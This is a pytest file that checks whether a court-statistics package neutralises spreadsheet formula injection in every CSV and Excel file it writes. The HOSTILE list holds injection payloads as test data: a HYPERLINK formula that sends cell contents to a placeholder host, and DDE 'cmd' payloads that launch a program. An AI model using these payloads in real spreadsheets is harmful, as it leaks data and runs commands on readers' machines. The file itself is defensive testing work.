"""No file courtstudy writes for Excel carries a live formula (OWASP CSV injection, issue 9).

An export whose party, judge, court, cause and header cells start with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return goes through every writer of the package: the loader's
quarantine and field-issue tables, ``indicators --out`` (CSV and XLSX), ``simulate``'s tables,
and an edition's CSVs and workbook. Every CSV cell is read back with the csv module and every
XLSX cell with openpyxl: no cell may be a formula (data_type "f") or start with a formula
character, and no value may be lost (XLSX keeps it exactly; CSV behind an apostrophe).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest

from courtstudy import cli
from courtstudy.core.tabular_output import (
    needs_neutralising,
    neutralise,
    replace_sheet,
    write_csv,
    write_xlsx,
)

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")   # no newline translation: a lone CR stays
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(path: Path) -> None:
    for cell in csv_cells(path):
        assert not needs_neutralising(cell), (path.name, cell)


def assert_xlsx_safe(path: Path) -> None:
    for cell in xlsx_cells(path):
        assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and needs_neutralising(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.coordinate)


def test_the_rule():
    assert [needs_neutralising(v) for v in HOSTILE] == [True] * len(HOSTILE)
    for plain in ("-5", "+1.5", "-1e3", "2023-05-06", "甲法院", "", "x=1", "（2022）蒙0291民初1号"):
        assert not needs_neutralising(plain), plain
    assert neutralise("=1+1") == "'=1+1" and neutralise(3) == 3 and neutralise("-5") == "-5"


def test_the_writers_keep_values_and_never_write_a_formula(tmp_path):
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE)), "=header": ["x"] * len(HOSTILE)})
    write_csv(frame, tmp_path / "t.csv")
    assert_csv_safe(tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["name"].tolist() == ["'" + v for v in HOSTILE]            # nothing lost: behind an apostrophe
    write_xlsx({"s": frame}, tmp_path / "t.xlsx")
    replace_sheet(tmp_path / "t.xlsx", "s2", frame)
    assert_xlsx_safe(tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    assert [c.value for c in sheet["A"][1:]] == HOSTILE                 # kept exactly


@pytest.fixture
def hostile_export(tmp_path) -> Path:
    rows = []
    for i, value in enumerate(HOSTILE, 1):
        rows.append([f"（2022）蒙0291民初{i}号", value, "2022-01-05", "2022-03-01", value, value, "abc" + value])
    rows.append([HOSTILE[0], "甲法院", "2022-01-05", "", "", "", ""])       # a bad case number
    rows.append(["", HOSTILE[1], "2022-01-05", "", "", "", ""])            # quarantined
    frame = pd.DataFrame(rows, columns=["案号", "法院", "立案日期", "结案日期", "承办法官", "案由", "标的额"])
    frame[HOSTILE[2]] = "unmapped"                                          # a formula as a header
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False, encoding="utf-8")                       # as an export would: raw
    return path


@pytest.fixture
def commands(monkeypatch):
    monkeypatch.setattr(cli, "COMMANDS", ("validate", "indicators", "simulate"))


def test_validate_outputs_are_safe(hostile_export, tmp_path, commands):
    assert cli.main(["validate", str(hostile_export), "--out", str(tmp_path / "v")]) == 0
    for name in ("quarantine.csv", "field_issues.csv"):
        assert_csv_safe(tmp_path / "v" / name)
    issues = pd.read_csv(tmp_path / "v" / "field_issues.csv", encoding="utf-8-sig", dtype=str)
    assert issues["value"].str.startswith("'").any()                        # the raw value, neutralised
    accepted = pd.read_parquet(tmp_path / "v" / "accepted.parquet")
    assert set(HOSTILE[:4]) <= set(accepted["court"])                       # data kept as written


def test_indicator_tables_are_safe(hostile_export, tmp_path, commands, capsys):
    for out in ("i.csv", "i.xlsx"):
        assert cli.main(["indicators", str(hostile_export), "--by", "court,judge", "--as-of", "2022-12-31",
                         "--period", "year", "--out", str(tmp_path / out)]) == 0
    assert_csv_safe(tmp_path / "i.csv")
    assert_xlsx_safe(tmp_path / "i.xlsx")
    courts = {c.value for c in xlsx_cells(tmp_path / "i.xlsx")}
    assert HOSTILE[0] in courts
    capsys.readouterr()
    assert cli.main(["indicators", str(hostile_export), "--by", "court", "--as-of", "2022-12-31",
                     "--period", "year"]) == 0
    printed = capsys.readouterr().out
    assert not any(needs_neutralising(c) for row in csv.reader(io.StringIO(printed)) for c in row)


def test_simulate_tables_are_safe(tmp_path, commands):
    assert cli.main(["simulate", "--scale", "0.01", "--bad-rows", "0.01", "--format", "xlsx",
                     "--out", str(tmp_path / "s")]) == 0
    for path in (tmp_path / "s").iterdir():
        if path.suffix == ".csv":
            assert_csv_safe(path)
        elif path.suffix == ".xlsx" and path.name.startswith("courts"):
            assert_xlsx_safe(path)


def test_edition_tables_are_safe(hostile_export, tmp_path, monkeypatch):
    from courtstudy.report.edition import run_edition

    monkeypatch.setenv("COURTSTUDY_PSEUDONYM_SALT", "formula-test")
    notebooks = tmp_path / "nbs"
    notebooks.mkdir()
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    params = nbformat.v4.new_code_cell("\n".join([
        'data = "demo"', 'courts = ""', 'period = "2022"', 'as_of = ""', 'court_filter = ""',
        'lang = "zh"', 'audience = "internal"', 'output_dir = ""', "seed = 1", "min_cell = 10"]))
    params.metadata["tags"] = ["parameters"]
    body = nbformat.v4.new_code_cell(
        "from courtstudy.report import notebook as nb\n"
        "ctx = nb.setup(**nb.parameters_from(globals()))\n"
        "frame = ctx.cases.groupby(['court', 'judge', 'cause']).size().rename('cases').reset_index()\n"
        f"frame[{HOSTILE[3]!r}] = frame['court']\n"
        "ctx.table('hostile', frame, title_zh='公式', title_en='Formulas')\n"
        "ctx.table('quarantine', ctx.loaded.field_issues, title_zh='问题', title_en='Issues')\n")
    notebook.cells = [params, body]
    nbformat.write(notebook, notebooks / "01_hostile.ipynb")
    result = run_edition("formulas", data=str(hostile_export), period="2022", notebooks_folder=notebooks,
                         reports_folder=tmp_path / "reports", progress_bar=False, log=lambda line: None)
    assert result.ok, result.manifest["notebooks"]
    files = list(result.path.rglob("*.csv")) + list(result.path.rglob("*.xlsx"))
    assert any(p.suffix == ".csv" for p in files) and any(p.suffix == ".xlsx" for p in files)
    for path in files:
        (assert_csv_safe if path.suffix == ".csv" else assert_xlsx_safe)(path)
    cells = {c.value for c in xlsx_cells(result.path / "tables.xlsx")}
    assert HOSTILE[0] in cells                                              # the value itself is kept
    manifest = json.loads((result.path / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["status"] == "complete"
